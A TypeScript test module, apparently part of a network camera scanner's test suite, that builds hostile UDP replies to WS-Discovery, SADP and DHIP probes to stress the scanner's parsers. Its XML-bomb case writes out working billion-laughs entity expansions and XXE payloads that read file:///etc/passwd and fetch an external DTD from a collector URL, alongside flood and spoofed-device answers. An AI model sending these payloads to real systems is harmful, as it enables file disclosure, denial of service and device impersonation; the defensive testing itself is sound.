/** The hostile responders' UDP answers to WS-Discovery, SADP and DHIP probes, one function per protocol. */
import { randomBytes, randomUUID } from 'node:crypto';
import type { UdpMessage } from '../../../src/transport/udp.js';
import { probeMatchesXml } from '../../../src/simulator/wire/ws-discovery.js';
import { parseSadpMessage } from '../../../src/protocols/sadp/index.js';
import { sadpProbeMatchXml } from '../../../src/simulator/wire/sadp.js';
import { parseDhipMessage } from '../../../src/protocols/dhip/index.js';
import { dhipDatagram } from '../../../src/simulator/wire/dhip.js';
import { buildDeviceInfoBody } from '../../../src/simulator/responders/dhip-responder.js';
import type { HostileKind, HostileOptions, HostileResponder } from './types.js';

export interface UdpContext {
  kind: HostileKind;
  responder: HostileResponder;
  options: HostileOptions;
  model: string;
}

const WS_PROBE = /<(?:[\w-]+:)?Probe[\s>]/;
const WS_MESSAGE_ID = /<(?:[\w-]+:)?MessageID[^>]*>([^<]{1,256})</;

function collectorUrl(context: UdpContext, path = '/onvif/device_service'): string {
  const collector = context.options.collector ?? { address: '127.0.0.1', port: 9 };
  return `http://${collector.address}:${collector.port}${path}`;
}

function ownUrl(context: UdpContext): string {
  return `http://${context.responder.address}:${context.responder.httpPort ?? 80}/onvif/device_service`;
}

function probeMatch(context: UdpContext, relatesTo: string, fields: { endpointUuid?: string; scopes?: string[]; xaddrs?: string[] } = {}): string {
  const r = context.responder;
  const endpoint = fields.endpointUuid ?? r.endpointUuid;
  return probeMatchesXml(randomUUID(), relatesTo || 'uuid:00000000-0000-0000-0000-000000000000', {
    address: /^[0-9a-f-]{36}$/i.test(endpoint) ? `urn:uuid:${endpoint}` : endpoint,
    types: 'dn:NetworkVideoTransmitter',
    scopes: fields.scopes ?? [`onvif://www.onvif.org/name/HOSTILE`, `onvif://www.onvif.org/hardware/${encodeURIComponent(context.model)}`, `onvif://www.onvif.org/MAC/${r.mac}`],
    xaddrs: fields.xaddrs ?? [r.httpPort !== null ? ownUrl(context) : collectorUrl(context)],
  });
}

export function answerWsDiscovery(context: UdpContext, message: UdpMessage): Buffer[] {
  const text = message.data.toString('utf8');
  if (!WS_PROBE.test(text) || /ProbeMatch/.test(text)) return [];
  const relatesTo = WS_MESSAGE_ID.exec(text)?.[1]?.trim() ?? '';
  const valid = probeMatch(context, relatesTo);
  switch (context.kind) {
    case 'garbage':
      return [
        randomBytes(300),
        Buffer.from(valid.slice(0, Math.floor(valid.length / 2)), 'utf8'),
        Buffer.from(valid.slice(0, valid.indexOf('<d:Scopes>') + 14), 'utf8'),
        Buffer.from('<', 'utf8'),
        Buffer.alloc(0),
        Buffer.from('{"method":"not-soap"}', 'utf8'),
        Buffer.from(valid.replace('</s:Envelope>', '</s:Envelop>'), 'utf8'),
      ];
    case 'xml-bomb': {
      const body = valid.replace(/^<\?xml[^>]*\?>/, '');
      const laughs = '<!DOCTYPE lolz [<!ENTITY lol "lol">' + Array.from({ length: 9 }, (_, i) => `<!ENTITY lol${i + 1} "${`&lol${i === 0 ? '' : i};`.repeat(10)}">`).join('') + ']>';
      const xxe = `<!DOCTYPE d [<!ENTITY xxe SYSTEM "${collectorUrl(context, '/xxe')}"><!ENTITY file SYSTEM "file:///etc/passwd">]>`;
      return [
        Buffer.from(`<?xml version="1.0"?>${laughs}${body.replace('onvif://www.onvif.org/name/HOSTILE', 'onvif://www.onvif.org/name/&lol9;')}`, 'utf8'),
        Buffer.from(`<?xml version="1.0"?>${xxe}${body.replace(/<d:XAddrs>[^<]*<\/d:XAddrs>/, '<d:XAddrs>&xxe; &file;</d:XAddrs>')}`, 'utf8'),
        Buffer.from(`<?xml version="1.0"?><!DOCTYPE e [<!ENTITY % p SYSTEM "${collectorUrl(context, '/dtd')}">%p;]>${body}`, 'utf8'),
      ];
    }
    case 'non-utf8': {
      const latin1 = Buffer.from(valid.replace('onvif://www.onvif.org/name/HOSTILE', 'onvif://www.onvif.org/name/Cam\u00e9ra\u00ff'), 'latin1');
      const spliced = Buffer.concat([Buffer.from(valid.slice(0, valid.indexOf('</a:Address>')), 'utf8'), Buffer.from([0xff, 0xfe, 0x80, 0xc0, 0xed, 0xa0, 0x80]), Buffer.from(valid.slice(valid.indexOf('</a:Address>')), 'utf8')]);
      const utf16 = Buffer.from(`\ufeff${valid.replace('encoding="UTF-8"', 'encoding="UTF-16"')}`, 'utf16le');
      return [latin1, spliced, utf16];
    }
    case 'jumbo': {
      const scopes = Array.from({ length: 1400 }, (_, i) => `onvif://www.onvif.org/x/${'j'.repeat(16)}${i}`);
      const xml = probeMatch(context, relatesTo, { scopes: [`onvif://www.onvif.org/MAC/${context.responder.mac}`, ...scopes] });
      // One cut at 60 KB (no longer well-formed), one well-formed answer padded to 61 KB.
      return [Buffer.from(xml.slice(0, 60_000), 'utf8'), Buffer.from(padTo(valid, 61_000), 'utf8')];
    }
    case 'flood': {
      const count = context.options.floodCount ?? 500;
      const half = Math.max(1, Math.floor(count / 2));
      const uuids = Array.from({ length: half }, () => `urn:uuid:${randomUUID()}`);
      // Each answer names another identity; the second half repeats the first half's UUIDs (duplicates).
      return Array.from({ length: count }, (_, i) => {
        const mac = `02:66:6c:${((i >> 16) & 0xff).toString(16).padStart(2, '0')}:${((i >> 8) & 0xff).toString(16).padStart(2, '0')}:${(i & 0xff).toString(16).padStart(2, '0')}`;
        return Buffer.from(probeMatch(context, relatesTo, { endpointUuid: uuids[i % half]!, scopes: [`onvif://www.onvif.org/MAC/${mac}`, 'onvif://www.onvif.org/name/FLOOD'] }), 'utf8');
      });
    }
    case 'impersonator':
    case 'points-elsewhere':
      return [Buffer.from(probeMatch(context, relatesTo, { xaddrs: [collectorUrl(context)] }), 'utf8')];
    default:
      // HTTP kinds: a well-formed answer that leads the scanner to their server.
      return [Buffer.from(valid, 'utf8')];
  }
}

/** Pad an XML document with a comment to `size` bytes (a comment is legal anywhere after the root element). */
function padTo(xml: string, size: number): string {
  const room = size - Buffer.byteLength(xml) - 7;
  return room > 0 ? `${xml}<!--${'p'.repeat(room)}-->` : xml;
}

function sadpMatch(context: UdpContext, uuid: string, overrides: { mac?: string; serial?: string; ipv4?: string; httpPort?: number } = {}): string {
  const r = context.responder;
  return sadpProbeMatchXml({
    uuid,
    deviceType: '141945',
    model: context.model,
    serial: overrides.serial ?? r.serial,
    mac: overrides.mac ?? r.mac,
    ipv4: overrides.ipv4 ?? r.address,
    ipv4Mask: '255.255.255.0',
    httpPort: overrides.httpPort ?? 80,
    commandPort: 8000,
    firmware: 'V5.7.3build 220112',
    activated: true,
    falseSpelling: 'flase',
  });
}

export function answerSadp(context: UdpContext, message: UdpMessage): Buffer[] {
  let uuid: string;
  try {
    const decoded = parseSadpMessage(message.data);
    if (decoded.kind !== 'inquiry') return [];
    uuid = decoded.uuid ?? '';
  } catch {
    return [];
  }
  const valid = sadpMatch(context, uuid);
  switch (context.kind) {
    case 'garbage':
      // Cut before the MAC and serial: nothing in it identifies a device.
      return [Buffer.from(valid.slice(0, valid.indexOf('<DeviceSN>')), 'utf8'), randomBytes(200), Buffer.from('<ProbeMatch><MAC>', 'utf8'), Buffer.from(valid.replace('<ProbeMatch>', '<ProbeMatch><<'), 'utf8')];
    case 'xml-bomb':
      return [Buffer.from(valid.replace('<ProbeMatch>', '<!DOCTYPE p [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]><ProbeMatch>').replace(/<DeviceDescription>[^<]*/, '<DeviceDescription>&b;'), 'utf8')];
    case 'non-utf8':
      return [Buffer.from(valid.replace(/<DeviceDescription>[^<]*/, '<DeviceDescription>Cam\u00e9ra \u00ff\u00fe'), 'latin1')];
    case 'jumbo':
      return [Buffer.from(padTo(valid, 60_000), 'utf8')];
    case 'flood': {
      const count = context.options.floodCount ?? 500;
      return Array.from({ length: count }, (_, i) => Buffer.from(sadpMatch(context, uuid, { mac: `02:66:6d:00:${((i >> 8) & 0xff).toString(16).padStart(2, '0')}:${(i & 0xff).toString(16).padStart(2, '0')}`, serial: `FLOOD-SADP-${i}` }), 'utf8'));
    }
    case 'impersonator':
      return [Buffer.from(valid, 'utf8')];
    case 'points-elsewhere': {
      const collector = context.options.collector;
      return [Buffer.from(sadpMatch(context, uuid, { ipv4: collector?.address ?? '127.0.0.1', httpPort: collector?.port ?? 9 }), 'utf8')];
    }
    default:
      return [];
  }
}

function dhipInfo(context: UdpContext, overrides: { mac?: string; serial?: string; ipv4?: string; httpPort?: number } = {}): string {
  const r = context.responder;
  return buildDeviceInfoBody(
    { address: overrides.ipv4 ?? r.address, httpPort: overrides.httpPort ?? 80, vendor: 'Dahua', model: context.model, firmware: '2.800.0000000.1.R', serial: overrides.serial ?? r.serial, mac: overrides.mac ?? r.mac, activated: true },
    overrides.ipv4 ?? r.address,
  );
}

export function answerDhip(context: UdpContext, message: UdpMessage): Buffer[] {
  try {
    if (parseDhipMessage(message.data).kind !== 'search') return [];
  } catch {
    return [];
  }
  const body = dhipInfo(context);
  switch (context.kind) {
    case 'garbage': {
      const lying = dhipDatagram(body);
      lying.writeUInt32LE(60_000, 16);
      lying.writeUInt32LE(60_000, 24);
      const badMagic = dhipDatagram(body);
      badMagic.write('XHIP', 4, 'latin1');
      return [lying, badMagic, dhipDatagram('{"method":"client.notifyDevInfo","params":'), dhipDatagram('null'), randomBytes(31), Buffer.concat([dhipDatagram(body), Buffer.from('trailing')])];
    }
    case 'xml-bomb':
      // JSON has no entities; its bomb is nesting.
      return [dhipDatagram(`{"method":"client.notifyDevInfo","params":{"deviceInfo":${'['.repeat(20_000)}${']'.repeat(20_000)}}}`)];
    case 'non-utf8': {
      const [head, tail] = body.split(context.model);
      return [dhipDatagram(Buffer.concat([Buffer.from(head ?? '', 'utf8'), Buffer.from([0xff, 0xfe, 0xc3]), Buffer.from(tail ?? '', 'utf8')]))];
    }
    case 'jumbo':
      return [dhipDatagram(body.replace('"DeviceType"', `"Padding":"${'x'.repeat(60_000)}","DeviceType"`))];
    case 'flood': {
      const count = context.options.floodCount ?? 500;
      return Array.from({ length: count }, (_, i) => dhipDatagram(dhipInfo(context, { mac: `02:66:6e:00:${((i >> 8) & 0xff).toString(16).padStart(2, '0')}:${(i & 0xff).toString(16).padStart(2, '0')}`, serial: `FLOOD-DHIP-${i}` })));
    }
    case 'impersonator':
      return [dhipDatagram(body)];
    case 'points-elsewhere': {
      const collector = context.options.collector;
      return [dhipDatagram(dhipInfo(context, { ipv4: collector?.address ?? '127.0.0.1', httpPort: collector?.port ?? 9 }))];
    }
    default:
      return [];
  }
}
